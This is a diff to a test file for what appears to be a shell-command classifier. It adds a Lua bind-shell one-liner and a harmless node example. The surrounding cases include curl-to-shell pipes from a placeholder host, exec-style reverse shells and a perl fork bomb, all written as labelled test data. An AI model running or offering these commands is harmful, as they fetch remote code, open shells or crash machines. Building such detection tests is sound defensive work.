@@ -14,6 +14,10 @@ describe("operations", () => {
     ["command.remote_code", 'python3 -c "$(curl -s http://e.example/x.py)"'],
     ["command.remote_code", "at now <<< 'curl http://e.example/x | sh'"],
     ["command.remote_code", "osascript -e 'do shell script \"curl http://e.example/x | sh\"'"],
+    [
+      "command.reverse_shell",
+      'lua5.3 -e \'local s=require("socket").bind("*",9999); local f=io.popen(s:accept():receive())\'',
+    ],
     ["command.reverse_shell", "connector e.example 4040 -e /bin/sh"],
     ["command.reverse_shell", "listener --port 4040 --exec=/bin/bash"],
     ["command.destroy", "perl -e 'fork while 1'"],
@@ -137,6 +141,7 @@ describe("operations", () => {
     "useradd -u 1001 -s /bin/bash dev",
     "supervise --port 8080 --exec ./serve.sh",
     "mv /etc/app.conf.new /etc/app.conf",
+    "node -e \"const run = require('child_process').spawn.bind(null, 'ls'); run()\"",
     "kubectl get secret db -o yaml",
     "python3 -m http.server 8000 --directory dist",
     "chmod g+s shared",
